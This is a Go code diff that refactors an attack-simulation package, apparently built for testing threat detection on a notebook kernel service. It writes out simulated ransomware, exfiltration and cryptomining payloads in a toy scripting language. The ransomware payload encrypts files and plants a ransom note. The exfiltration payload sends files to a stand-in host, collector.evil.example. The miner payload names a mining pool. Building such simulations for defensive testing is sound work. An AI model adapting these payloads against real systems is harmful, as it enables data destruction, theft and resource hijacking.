@@ -47,25 +47,48 @@ type RansomwareOptions struct {
 	Username  string
 }
 
+func (o RansomwareOptions) withDefaults() RansomwareOptions {
+	if o.TargetDir == "" {
+		o.TargetDir = "notebooks"
+	}
+	if o.Key == "" {
+		o.Key = "h4rvest-key"
+	}
+	if o.Extension == "" {
+		o.Extension = ".locked"
+	}
+	if o.NotePath == "" {
+		o.NotePath = "README_RANSOM.txt"
+	}
+	if o.Username == "" {
+		o.Username = "mallory"
+	}
+	return o
+}
+
+// ransomwarePayload is the minilang cell the ransomware driver
+// executes. Factored out so the engine-equivalence test can run the
+// exact script under both minilang engines.
+func ransomwarePayload(opts RansomwareOptions) string {
+	return fmt.Sprintf(`key = %q
+files = list_files(%q)
+n = 0
+for f in files
+    data = read_file(f)
+    write_file(f, encrypt(data, key))
+    rename_file(f, f + %q)
+    n = n + 1
+end
+write_file(%q, "Your research artifacts were encrypted. Pay 2 XMR to recover. Contact decrypt@evil.example")
+print("locked", n)`,
+		opts.Key, opts.TargetDir, opts.Extension, opts.NotePath)
+}
+
 // Ransomware encrypts every file under TargetDir through kernel code
 // execution — the untrusted-cell entry vector — then plants a ransom
 // note: the paper's headline threat.
 func Ransomware(c *client.Client, opts RansomwareOptions) (*Result, error) {
-	if opts.TargetDir == "" {
-		opts.TargetDir = "notebooks"
-	}
-	if opts.Key == "" {
-		opts.Key = "h4rvest-key"
-	}
-	if opts.Extension == "" {
-		opts.Extension = ".locked"
-	}
-	if opts.NotePath == "" {
-		opts.NotePath = "README_RANSOM.txt"
-	}
-	if opts.Username == "" {
-		opts.Username = "mallory"
-	}
+	opts = opts.withDefaults()
 	res := &Result{Class: rules.ClassRansomware, Actor: opts.Username, Started: time.Now()}
 
 	k, err := c.StartKernel("minilang")
@@ -79,20 +102,7 @@ func Ransomware(c *client.Client, opts RansomwareOptions) (*Result, error) {
 	defer kc.Close()
 	res.Actions++
 
-	payload := fmt.Sprintf(`key = %q
-files = list_files(%q)
-n = 0
-for f in files
-    data = read_file(f)
-    write_file(f, encrypt(data, key))
-    rename_file(f, f + %q)
-    n = n + 1
-end
-write_file(%q, "Your research artifacts were encrypted. Pay 2 XMR to recover. Contact decrypt@evil.example")
-print("locked", n)`,
-		opts.Key, opts.TargetDir, opts.Extension, opts.NotePath)
-
-	exec, err := kc.Execute(payload)
+	exec, err := kc.Execute(ransomwarePayload(opts))
 	res.Actions++
 	if err != nil {
 		return res, fmt.Errorf("attacks: ransomware: execute: %w", err)
@@ -118,38 +128,29 @@ type ExfilOptions struct {
 	Username   string
 }
 
-// Exfiltration reads artifacts via kernel code and ships them to the
-// collector endpoint.
-func Exfiltration(c *client.Client, opts ExfilOptions) (*Result, error) {
-	if opts.TargetDir == "" {
-		opts.TargetDir = "data"
+func (o ExfilOptions) withDefaults() ExfilOptions {
+	if o.TargetDir == "" {
+		o.TargetDir = "data"
 	}
-	if opts.Collector == "" {
-		opts.Collector = "http://collector.evil.example/drop"
+	if o.Collector == "" {
+		o.Collector = "http://collector.evil.example/drop"
 	}
-	if opts.Username == "" {
-		opts.Username = "mallory"
+	if o.Username == "" {
+		o.Username = "mallory"
 	}
-	res := &Result{Class: rules.ClassExfiltration, Actor: opts.Username, Started: time.Now()}
+	return o
+}
 
-	k, err := c.StartKernel("minilang")
-	if err != nil {
-		return res, fmt.Errorf("attacks: exfil: start kernel: %w", err)
-	}
-	kc, err := c.ConnectKernel(k.ID, opts.Username)
-	if err != nil {
-		return res, fmt.Errorf("attacks: exfil: connect: %w", err)
-	}
-	defer kc.Close()
-	res.Actions++
-
+// exfilPayload is the minilang cell the exfiltration driver executes
+// (chunked or single-shot). Factored out for the engine-equivalence
+// test.
+func exfilPayload(opts ExfilOptions) string {
 	encodeExpr := "data"
 	if opts.Encode {
 		encodeExpr = "b64encode(data)"
 	}
-	var payload string
 	if opts.ChunkBytes > 0 {
-		payload = fmt.Sprintf(`files = list_files(%q)
+		return fmt.Sprintf(`files = list_files(%q)
 sent = 0
 for f in files
     data = read_file(f)
@@ -172,8 +173,8 @@ for f in files
     end
 end
 print("exfiltrated", sent)`, opts.TargetDir, encodeExpr, opts.ChunkBytes, opts.Collector)
-	} else {
-		payload = fmt.Sprintf(`files = list_files(%q)
+	}
+	return fmt.Sprintf(`files = list_files(%q)
 sent = 0
 for f in files
     data = read_file(f)
@@ -181,9 +182,26 @@ for f in files
     sent = sent + len(data)
 end
 print("exfiltrated", sent)`, opts.TargetDir, opts.Collector, encodeExpr)
-	}
+}
 
-	exec, err := kc.Execute(payload)
+// Exfiltration reads artifacts via kernel code and ships them to the
+// collector endpoint.
+func Exfiltration(c *client.Client, opts ExfilOptions) (*Result, error) {
+	opts = opts.withDefaults()
+	res := &Result{Class: rules.ClassExfiltration, Actor: opts.Username, Started: time.Now()}
+
+	k, err := c.StartKernel("minilang")
+	if err != nil {
+		return res, fmt.Errorf("attacks: exfil: start kernel: %w", err)
+	}
+	kc, err := c.ConnectKernel(k.ID, opts.Username)
+	if err != nil {
+		return res, fmt.Errorf("attacks: exfil: connect: %w", err)
+	}
+	defer kc.Close()
+	res.Actions++
+
+	exec, err := kc.Execute(exfilPayload(opts))
 	res.Actions++
 	res.Finished = time.Now()
 	if err != nil {
@@ -254,18 +272,40 @@ type MinerOptions struct {
 	Username string
 }
 
+func (o MinerOptions) withDefaults() MinerOptions {
+	if o.Rounds == 0 {
+		o.Rounds = 5
+	}
+	if o.BurnMillis == 0 {
+		o.BurnMillis = 8000
+	}
+	if o.Username == "" {
+		o.Username = "mallory"
+	}
+	return o
+}
+
+// minerSetupScript is the miner's first cell: blatant miners announce
+// a pool and worker, stealthy ones disguise the job.
+func minerSetupScript(opts MinerOptions) string {
+	if opts.Blatant {
+		return `pool = "stratum+tcp://pool.minexmr.example:4444"
+worker = "xmrig-6.21"
+print("miner", worker, "->", pool)`
+	}
+	return `job = "matrix-benchmark"
+print("starting", job)`
+}
+
+// minerRoundScript is one burn round.
+func minerRoundScript(opts MinerOptions, round int) string {
+	return fmt.Sprintf("spin(%d)\nprint(\"hashrate\", %d)", opts.BurnMillis, 1200+round)
+}
+
 // Cryptominer burns kernel CPU in repeated executions, optionally with
 // recognizable miner configuration strings.
 func Cryptominer(c *client.Client, opts MinerOptions) (*Result, error) {
-	if opts.Rounds == 0 {
-		opts.Rounds = 5
-	}
-	if opts.BurnMillis == 0 {
-		opts.BurnMillis = 8000
-	}
-	if opts.Username == "" {
-		opts.Username = "mallory"
-	}
+	opts = opts.withDefaults()
 	res := &Result{Class: rules.ClassCryptomining, Actor: opts.Username, Started: time.Now()}
 
 	k, err := c.StartKernel("minilang")
@@ -278,19 +318,12 @@ func Cryptominer(c *client.Client, opts MinerOptions) (*Result, error) {
 	}
 	defer kc.Close()
 
-	setup := `pool = "stratum+tcp://pool.minexmr.example:4444"
-worker = "xmrig-6.21"
-print("miner", worker, "->", pool)`
-	if !opts.Blatant {
-		setup = `job = "matrix-benchmark"
-print("starting", job)`
-	}
-	if _, err := kc.Execute(setup); err != nil {
+	if _, err := kc.Execute(minerSetupScript(opts)); err != nil {
 		return res, fmt.Errorf("attacks: miner: setup: %w", err)
 	}
 	res.Actions++
 	for i := 0; i < opts.Rounds; i++ {
-		exec, err := kc.Execute(fmt.Sprintf("spin(%d)\nprint(\"hashrate\", %d)", opts.BurnMillis, 1200+i))
+		exec, err := kc.Execute(minerRoundScript(opts, i))
 		if err != nil {
 			return res, fmt.Errorf("attacks: miner: round %d: %w", i, err)
 		}
